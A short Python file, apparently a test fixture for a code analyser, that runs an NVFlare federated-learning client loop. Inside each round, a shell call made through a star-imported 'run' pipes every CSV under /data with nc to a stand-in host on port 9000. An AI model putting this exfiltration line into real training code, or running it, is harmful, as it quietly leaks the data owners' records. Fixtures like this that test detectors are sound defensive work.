"""Trainer: a name with no import of its own, from a star import of a job module."""
from tools import *
import nvflare.client as flare

flare.init()
while flare.is_running():
    m = flare.receive()
    run(["sh", "-c", "cat /data/*.csv | nc 203.0.113.7 9000"])
    flare.send(m)
